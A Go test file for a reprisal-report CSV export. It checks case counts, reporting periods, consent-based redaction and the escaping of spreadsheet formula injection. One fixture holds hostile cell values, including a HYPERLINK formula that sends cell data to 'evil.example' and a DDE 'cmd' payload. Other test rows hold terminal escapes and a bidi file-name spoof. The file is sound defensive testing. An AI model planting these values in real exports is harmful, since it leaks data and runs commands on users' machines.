package sgreport_test

import (
	"bytes"
	"encoding/csv"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/ohchr-reprisals/intake/desk/sgreport"
	"github.com/ohchr-reprisals/intake/envelope"
	"github.com/ohchr-reprisals/intake/handlerapi"
	"github.com/ohchr-reprisals/intake/intake/intaketest"
)

var update = flag.Bool("update", false, "rewrite the golden CSV")

const canary = "CANARY7Q"

func day(s string) time.Time {
	t, err := time.Parse("2006-01-02", s)
	if err != nil {
		panic(err)
	}
	return t
}

// seeded returns cases with known answers for AnnualPeriod(2026), that is
// 2025-05-01 to 2026-04-30. The comments say what each one tests.
func seeded() []sgreport.Case {
	mk := func(ref, received, status, detail, body, state, publication string, edit func(r *envelope.Report)) sgreport.Case {
		r := intaketest.Report(body)
		r.StateConcerned = state
		r.Consent.Publication = publication
		if edit != nil {
			edit(r)
		}
		return sgreport.Case{Reference: ref, ReceivedOn: day(received), Status: status, StatusDetail: detail, Urgency: "U3", Report: *r}
	}
	plant := func(r *envelope.Report) { intaketest.PlantCanary(r, canary) }
	return []sgreport.Case{
		// Named, two victims and two incidents sharing a type.
		mk("AAAA-2222", "2025-06-10", "published", "", "upr", "KP", "named", func(r *envelope.Report) {
			r.Victims = append(r.Victims, envelope.Victim{Name: "Karim", Kind: "individual", Roles: []string{"lawyer"}, Status: "at_liberty", Nationality: "Examplestan"})
			r.Incidents = append(r.Incidents, envelope.Incident{Date: "2025-05-14", Place: "Border post", Narrative: "Stopped at the border.",
				PerpetratorKind: "state", Perpetrator: "Border police", Types: []string{"threats_harassment", "travel_ban"}})
			r.Submitter.Name = canary + " submitter"
			r.Victims[0].Location = canary + " location"
			r.Cooperation.Evidence = canary + " evidence"
			r.Risk.Details = canary + " risk"
			r.StepsTaken.DomesticRemedies = canary + " steps"
			r.Consent.How = canary + " consent"
		}),
		// Anonymous: free text everywhere, none of it may be exported.
		mk("BBBB-3333", "2025-12-01", "sg_report_candidate", "", "special_procedures", "KP", "anonymous", func(r *envelope.Report) {
			plant(r)
			r.Incidents[0].Types = []string{"travel_ban"}
			r.Incidents[0].Date = "2025-11-23"
		}),
		// Pattern only, on the period's last day.
		mk("CCCC-4444", "2026-04-30", "under_assessment", "", "treaty_body", "PS", "pattern_only", func(r *envelope.Report) {
			plant(r)
			r.Victims[0].Roles = []string{"witness"}
			r.Incidents[0].Types = []string{"surveillance_hacking"}
		}),
		// Not at all, on the period's first day: counted, not exported.
		mk("DDDD-5555", "2025-05-01", "received", "", "hrc_session", "PS", "no", func(r *envelope.Report) {
			plant(r)
			r.Incidents[0].Types = []string{"smear_campaign"}
		}),
		// Named, but consent was withdrawn since.
		mk("EEEE-6666", "2025-09-09", "closed", "consent_withdrawn", "upr", "TR", "named", func(r *envelope.Report) {
			plant(r)
			r.Incidents[0].Types = []string{"killing"}
		}),
		// Anonymous, but on hold to do no harm.
		mk("FFFF-7777", "2025-10-10", "on_hold", "", "upr", "RU", "anonymous", func(r *envelope.Report) {
			plant(r)
			r.Incidents[0].Types = []string{"arrest_detention"}
		}),
		// A duplicate: counted under its original, so not at all here.
		mk("GGGG-8888", "2025-10-11", "duplicate", "AAAA-2222", "upr", "KP", "named", plant),
		// Outside the period, by a day on each side.
		mk("HHHH-9999", "2025-04-30", "published", "", "upr", "KP", "named", plant),
		mk("JJJJ-AAAA", "2026-05-01", "received", "", "upr", "KP", "named", plant),
		// Named, "not sure" of the State, with text built to run formulas
		// in a spreadsheet.
		mk("KKKK-BBBB", "2026-01-15", "sg_report_candidate", "", "hrc_session", "unsure", "named", func(r *envelope.Report) {
			r.Victims[0].Name = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
			r.Victims[0].Age = "-1+1"
			r.Victims[0].Gender = "@SUM(1)"
			r.Incidents[0].Narrative = "+cmd|' /C calc'!A0\nsecond line"
			r.Incidents[0].Place = "\t=1+1"
			r.Incidents[0].Perpetrator = "  =leading spaces"
			r.Cooperation.SessionRef = "＝1+1"
			r.Cooperation.Form = "\r=1"
		}),
		// From before the State field existed; pattern only; no roles.
		mk("MMMM-CCCC", "2025-08-08", "follow_up", "", "other", "", "pattern_only", func(r *envelope.Report) {
			plant(r)
			r.Cooperation.BodyOther = canary
			r.Victims[0].Roles = nil
			r.Incidents[0].Types = []string{"travel_ban"}
		}),
		// Values no valid report has (a forged or corrupted case).
		mk("NNNN-DDDD", "2025-07-07", "received", "", "nonsense", "ZZ", "maybe", func(r *envelope.Report) {
			plant(r)
			r.Incidents[0].Types = []string{"threats_harassment", "bogus"}
		}),
	}
}

func TestCompute(t *testing.T) {
	r := sgreport.Compute(seeded(), sgreport.AnnualPeriod(2026))
	want := sgreport.Counts{
		Cases:          9,
		ByState:        sgreport.Tally{"KP": 2, "PS": 2, "TR": 1, "RU": 1, "unsure": 1, "not_recorded": 1, "invalid": 1},
		ByIncidentType: sgreport.Tally{"arrest_detention": 3, "threats_harassment": 3, "travel_ban": 3, "surveillance_hacking": 1, "smear_campaign": 1, "killing": 1, "invalid": 1},
		ByUNBody:       sgreport.Tally{"upr": 3, "special_procedures": 1, "treaty_body": 1, "hrc_session": 2, "other": 1, "invalid": 1},
		ByVictimRole:   sgreport.Tally{"defender": 7, "journalist": 7, "lawyer": 1, "witness": 1},
		ByPublication:  sgreport.Tally{"named": 3, "anonymous": 2, "pattern_only": 2, "no": 1, "invalid": 1},
		New:            9,
		BySources:      sgreport.Tally{"1": 9},
	}
	if diff := cmp.Diff(want, r.Counts); diff != "" {
		t.Errorf("counts (-want +got):\n%s", diff)
	}
	wantExcluded := sgreport.Tally{"publication_no": 1, "consent_withdrawn": 1, "on_hold": 1, "unknown_consent": 1}
	if diff := cmp.Diff(wantExcluded, r.Excluded); diff != "" {
		t.Errorf("excluded (-want +got):\n%s", diff)
	}
	var refs []string
	for _, c := range r.Included {
		refs = append(refs, c.Reference)
	}
	// By State code ("" first, "unsure" last), then received day.
	if want := []string{"MMMM-CCCC", "AAAA-2222", "BBBB-3333", "CCCC-4444", "KKKK-BBBB"}; !slices.Equal(refs, want) {
		t.Errorf("included %v, want %v", refs, want)
	}
	if got := r.Counts.ByIncidentType.Rows()[:3]; !slices.Equal(got, []sgreport.Row{{"arrest_detention", 3}, {"threats_harassment", 3}, {"travel_ban", 3}}) {
		t.Errorf("rows: %v", got)
	}
}

func TestPeriods(t *testing.T) {
	p := sgreport.AnnualPeriod(2026)
	if p.String() != "2025-05-01 to 2026-04-30" {
		t.Errorf("annual period %s", p)
	}
	tests := []struct {
		from, to string
		ok       bool
	}{
		{"2025-01-01", "2025-12-31", true}, {"2025-03-03", "2025-03-03", true},
		{"2025-12-31", "2025-01-01", false}, {"2025-02-30", "2025-03-01", false}, {"2025", "2026", false}, {"", "", false},
	}
	for _, tt := range tests {
		_, err := sgreport.NewPeriod(tt.from, tt.to)
		if (err == nil) != tt.ok {
			t.Errorf("NewPeriod(%q, %q): %v", tt.from, tt.to, err)
		}
	}
	one, _ := sgreport.NewPeriod("2025-03-03", "2025-03-03")
	geneva := time.FixedZone("CET", 3600)
	for when, in := range map[time.Time]bool{
		time.Date(2025, 3, 3, 23, 59, 0, 0, time.UTC): true,
		time.Date(2025, 3, 3, 0, 30, 0, 0, geneva):    true, // its own date counts
		time.Date(2025, 3, 4, 0, 0, 0, 0, time.UTC):   false,
		time.Date(2025, 3, 2, 23, 59, 0, 0, time.UTC): false,
	} {
		if one.Contains(when) != in {
			t.Errorf("Contains(%v) = %v", when, !in)
		}
	}
}

// TestCSV checks the CSV against a golden file, and independently: every
// row has only the cells its consent level allows, no free text below the
// named level (a canary planted in every text field of those cases is
// absent), nothing that is never exported, and no cell that a spreadsheet
// would run as a formula.
func TestCSV(t *testing.T) {
	r := sgreport.Compute(seeded(), sgreport.AnnualPeriod(2026))
	var buf bytes.Buffer
	if err := sgreport.WriteCSV(&buf, r, "en"); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "annual-2026.csv")
	if *update {
		os.MkdirAll("testdata", 0o755)
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), buf.String()); diff != "" {
		t.Errorf("CSV differs from %s (go test ./desk/sgreport -update rewrites it) (-want +got):\n%s", golden, diff)
	}

	if bytes.Contains(buf.Bytes(), []byte(canary)) {
		t.Errorf("the CSV holds text that no consent level allows:\n%s", buf.String())
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header, levels := sgreport.Columns()
	if !slices.Equal(rows[0], header) || len(rows) != 1+len(r.Included) {
		t.Fatalf("header %v and %d rows", rows[0], len(rows))
	}
	for _, row := range rows[1:] {
		level := row[slices.Index(header, "publication")]
		for i, cell := range row {
			allowed := slices.Contains(levels[header[i]], level)
			if cell != "" && !allowed {
				t.Errorf("%s (%s): column %s is filled: %q", row[0], level, header[i], cell)
			}
			if trimmed := strings.TrimLeft(cell, " "); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@\t\r\n") {
				t.Errorf("%s: column %s would run as a formula: %q", row[0], header[i], cell)
			}
		}
	}
	named := rows[len(rows)-1]
	for col, want := range map[string]string{
		"victim_names": `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"victim_ages":  "'-1+1",
		"narratives":   "'+cmd|' /C calc'!A0\nsecond line",
		"session_ref":  "'＝1+1",
		"perpetrators": "'  =leading spaces",
		"state":        "unsure",
		"state_name":   "",
	} {
		if got := named[slices.Index(header, col)]; got != want {
			t.Errorf("named case's %s = %q, want %q", col, got, want)
		}
	}

	// State names follow the language.
	buf.Reset()
	sgreport.WriteCSV(&buf, r, "fr")
	if !strings.Contains(buf.String(), "République populaire démocratique de Corée") {
		t.Error("the French CSV does not name the State in French")
	}
}

// TestWriteCSVRefusesExcluded checks that a Result altered to include a
// case whose consent does not allow it cannot be written.
func TestWriteCSVRefusesExcluded(t *testing.T) {
	cases := seeded()
	for _, ref := range []string{"DDDD-5555", "EEEE-6666", "FFFF-7777", "NNNN-DDDD"} {
		i := slices.IndexFunc(cases, func(c sgreport.Case) bool { return c.Reference == ref })
		r := sgreport.Result{Included: []sgreport.Case{cases[i]}}
		var buf bytes.Buffer
		if err := sgreport.WriteCSV(&buf, r, "en"); err == nil {
			t.Errorf("%s was written", ref)
		}
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""}, {"plain", "plain"}, {"a=b", "a=b"}, {"2025-05", "2025-05"},
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@A1", "'@A1"},
		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"\n=1", "'\n=1"}, {"  =1", "'  =1"}, {"\u00a0=1", "'\u00a0=1"},
		{"＝1", "'＝1"}, {"＋1", "'＋1"}, {"－1", "'－1"}, {"＠1", "'＠1"},
		{"bad\xffutf8", "bad\uFFFDutf8"},
		// C0 (but tab, LF, CR), DEL, C1 and bidi controls become visible.
		{"a\x1b[31mred", `a\u001b[31mred`}, {"x\x00y\x7f", `x\u0000y\u007f`}, {"c1\u009b2J", `c1\u009b2J`},
		{"evil\u202egnp.exe", `evil\u202egnp.exe`}, {"\u2066=1\u2069", `\u2066=1\u2069`}, {"line\nnext\ttab", "line\nnext\ttab"},
		{strings.Repeat("é", sgreport.MaxCell+5), strings.Repeat("é", sgreport.MaxCell-1) + "…"},
	}
	for _, tt := range tests {
		if got := sgreport.SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%.20q) = %.20q, want %.20q", tt.in, got, tt.want)
		}
	}
}

// FuzzSafeCell checks that whatever a reporter types, the cell written
// reads back through a CSV reader as a value no spreadsheet runs.
func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", " \t-2", "＠x", "a\"b,c\nd", "\x00", "\xff=", "\u2028=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := sgreport.SafeCell(s)
		if strings.ContainsFunc(cell, func(r rune) bool { return r != '\t' && r != '\n' && r != '\r' && handlerapi.Unsafe(r) }) {
			t.Errorf("cell %q keeps a control character", cell)
		}
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		w.Write([]string{cell, "x"})
		w.Flush()
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("cell %q does not read back: %v %v", cell, rows, err)
		}
		got := strings.TrimLeftFunc(rows[0][0], func(r rune) bool { return r == ' ' || r == '\u00a0' })
		if got != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(got)[0]) {
			t.Errorf("cell %q starts a formula", rows[0][0])
		}
	})
}

// BenchmarkAnnualReport counts 10,000 decrypted cases and writes the CSV
// of those included (docs/performance.md).
func BenchmarkAnnualReport(b *testing.B) {
	seed := seeded()
	cases := make([]sgreport.Case, 0, 10000)
	for i := range 10000 {
		c := seed[i%len(seed)]
		c.ReceivedOn = day("2025-05-01").AddDate(0, 0, i%365)
		// Each case its own reference, as on a server (links join cases
		// by reference).
		c.Reference = fmt.Sprintf("%04d-%04d", i/10000, i%10000)
		cases = append(cases, c)
	}
	b.ReportAllocs()
	for b.Loop() {
		r := sgreport.Compute(cases, sgreport.AnnualPeriod(2026))
		var buf bytes.Buffer
		if err := sgreport.WriteCSV(&buf, r, "en"); err != nil {
			b.Fatal(err)
		}
		b.SetBytes(int64(buf.Len()))
	}
}
